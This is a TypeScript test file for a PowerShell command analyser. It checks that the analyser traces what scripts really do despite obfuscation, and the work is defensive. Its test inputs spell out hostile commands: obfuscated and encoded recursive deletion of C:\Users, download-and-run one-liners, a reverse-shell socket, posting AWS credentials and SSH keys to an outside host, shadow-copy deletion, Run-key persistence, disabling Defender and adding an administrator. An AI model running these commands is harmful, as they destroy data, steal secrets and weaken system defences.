import { expect, test } from 'vitest'
import { createFollow } from '../shell/read-shell.ts'
import { countSteps } from './powershell/session.ts'
import { scanSource } from './powershell/source.ts'
import { readPowershell } from './read-windows.ts'

const read = (text: string) =>
  readPowershell(
    text,
    createFollow(() => ''),
  )
const effectsOf = (text: string) =>
  read(text).effects.map(({ act, target }) => `${act} ${target.class} ${target.name}`)

const deletions = [
  'Remove-Item -Recurse -Force C:\\Users',
  'rm -r -fo C:\\Users',
  'ri C:\\Users -Rec -Force',
  'Remove-Item -Path:C:\\Users -Recurse:$true',
  '"C:\\Users" | Remove-Item -Recurse',
  "$where = 'C:\\Us' + 'ers'; del $where -Recurse",
  "& ('Remove-' + 'Item') C:\\Users -Recurse",
  "&('{1}{0}' -f 'Item','Remove-') C:\\Users -Recurse",
  "iex ('Remove-Item C:\\Xsers -Recurse' -replace 'X','U')",
  'iex (-join [char[]](82,101,109,111,118,101,45,73,116,101,109,32,67,58,92,85,115,101,114,115,32,45,114))',
  "-join ('52656d6f76652d4974656d20433a5c5573657273202d72' -split '(..)' | % { [char][convert]::ToInt32($_,16) }) | iex",
  'i`ex "Remove-Item C:\\Users -Recurse"',
  'Microsoft.PowerShell.Management\\Remove-Item C:\\Users -Recurse',
  '. { Remove-Item C:\\Users -Recurse }',
  '& { param($p) Remove-Item $p -Recurse } C:\\Users',
  '[scriptblock]::Create("Remove-Item C:\\Users -Recurse").Invoke()',
  'function Clean-Up($p) { Remove-Item $p -Recurse }; Clean-Up C:\\Users',
  'Set-Alias tidy Remove-Item; tidy C:\\Users -Recurse',
  '$a = @{ Path = "C:\\Users"; Recurse = $true }; Remove-Item @a',
  'foreach ($p in "C:\\Temp\\a", "C:\\Users") { Remove-Item $p -Recurse }',
  '"C:\\Users" | ForEach-Object { Remove-Item $_ -Recurse }',
  'if ($x) { $p = "C:\\Users" } else { $p = "build" }; Remove-Item $p -Recurse',
  'try { Remove-Item C:\\Users -Recurse } catch { }',
  "$s = @'\nRemove-Item C:\\Users -Recurse\n'@\niex $s",
  'Remove-Item `\n  -Path C:\\Users `\n  -Recurse',
  '[IO.Directory]::Delete("C:\\Users", $true)',
  'cmd /c "rd /s /q C:\\Users"',
  'Start-Process cmd -ArgumentList "/c rd /s /q C:\\Users"',
  'powershell -EncodedCommand UgBlAG0AbwB2AGUALQBJAHQAZQBtACAAQwA6AFwAVQBzAGUAcgBzACAALQBSAGUAYwB1AHIAcwBlAA==',
  '"Remove-Item C:\\Users -Recurse" | Out-File a.ps1; .\\a.ps1',
  '$x = "$(\'Remove\')-Item"; & $x (Join-Path C:\\ Users) -Recurse',
]

test.each(deletions)('a folder is deleted, however it is spelt: %s', (text) => {
  expect(effectsOf(text).some((effect) => /^delete path\/root C:\\+Users/.test(effect))).toBe(true)
})

test.each([
  'Write-Host "Remove-Item C:\\Users -Recurse"',
  '# Remove-Item C:\\Users -Recurse',
  '<# Remove-Item C:\\Users -Recurse #> Get-Date',
  '$s = "Remove-Item C:\\Users -Recurse"',
  'if ($false) { Remove-Item C:\\Users -Recurse }',
])('what is only mentioned does not happen: %s', (text) => {
  expect(effectsOf(text).filter((effect) => effect.startsWith('delete'))).toEqual([])
})

test.each([
  ['iex (iwr https://get.example/a)', 'execute code/network'],
  ['(New-Object Net.WebClient).DownloadString("https://get.example/a") | iex', 'execute code/network'],
  [
    "$m = 'Download' + 'String'; iex (New-Object Net.WebClient).$m('https://get.example/a')",
    'execute code/network',
  ],
  ['.($PSHome[4]+$PSHome[30]+"x") (irm https://get.example/a)', 'execute code/network'],
  ['iwr https://get.example/a.exe -OutFile a.exe; .\\a.exe', 'execute code/network'],
  [
    'iex ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String("R2V0LURhdGU=")))',
    'execute code/decoded',
  ],
  [
    '$c = New-Object Net.Sockets.TCPClient("203.0.113.9", 4444); $s = $c.GetStream(); iex $data',
    'connect code/shell',
  ],
  ['$d = Get-Content ~\\.aws\\credentials; irm https://x.example -Method Post -Body $d', 'send host/outside'],
  ['Get-WmiObject Win32_ShadowCopy | % { $_.Delete() }', 'delete resource/backup'],
  [
    'Set-ItemProperty HKLM:\\Software\\Microsoft\\Windows\\CurrentVersion\\Run -Name a -Value a.exe',
    'write path/startup',
  ],
  ['Set-MpPreference -DisableRealtimeMonitoring $true', 'configure control/security'],
  ['Add-LocalGroupMember -Group Administrators -Member eve', 'grant account/admin'],
])('values are followed to what they do: %s', (text, expected) => {
  expect(effectsOf(text).some((effect) => effect.startsWith(expected))).toBe(true)
})

test('a credential that is sent keeps its origin through variables', () => {
  const sent = read(
    '$k = gc ~\\.ssh\\id_rsa; $b = "k=$k"; irm https://x.example -Method Post -Body $b',
  ).effects.find(({ act }) => act === 'send')
  expect(sent?.manner).not.toBe(0)
})

test('what would only be done is marked as such', () => {
  const [plain] = read('Remove-Item C:\\Users -Recurse').effects
  const [dry] = read('Remove-Item C:\\Users -Recurse -WhatIf').effects
  expect(dry?.manner).toBeGreaterThan(plain?.manner ?? 0)
})

const shapes = [
  "'",
  '"',
  '"$(',
  '@"\n',
  "@'\n",
  '{',
  '(',
  '[',
  '$a ',
  '$a=',
  '$a+="b";',
  '1,',
  '1..9;',
  "'a'+",
  '&&$',
  'iex ',
  '% {',
  '[a]',
  '@{',
  ',',
  '-join',
  '.a()',
  'if(1){',
  '<#',
  '`',
]

test.each(shapes)('brackets and quotes are paired in work that grows with the text alone: %j', (shape) => {
  const work = (length: number) => scanSource(shape.repeat(Math.ceil(length / shape.length))).looks
  expect(work(100_000)).toBeLessThan(2.2 * work(50_000) + 1_000)
})

test.each(shapes)('100 kB of one thing is read in bounded steps, or said to be too much: %j', (shape) => {
  const walk = read(shape.repeat(100_000 / shape.length))
  expect(countSteps(walk)).toBeLessThan(20_000)
  expect(walk.calls.length).toBeLessThanOrEqual(500)
})

test('more commands than are followed are reported as not followed', () => {
  expect(read('Get-Date;'.repeat(5_000)).complete).toBe(false)
})
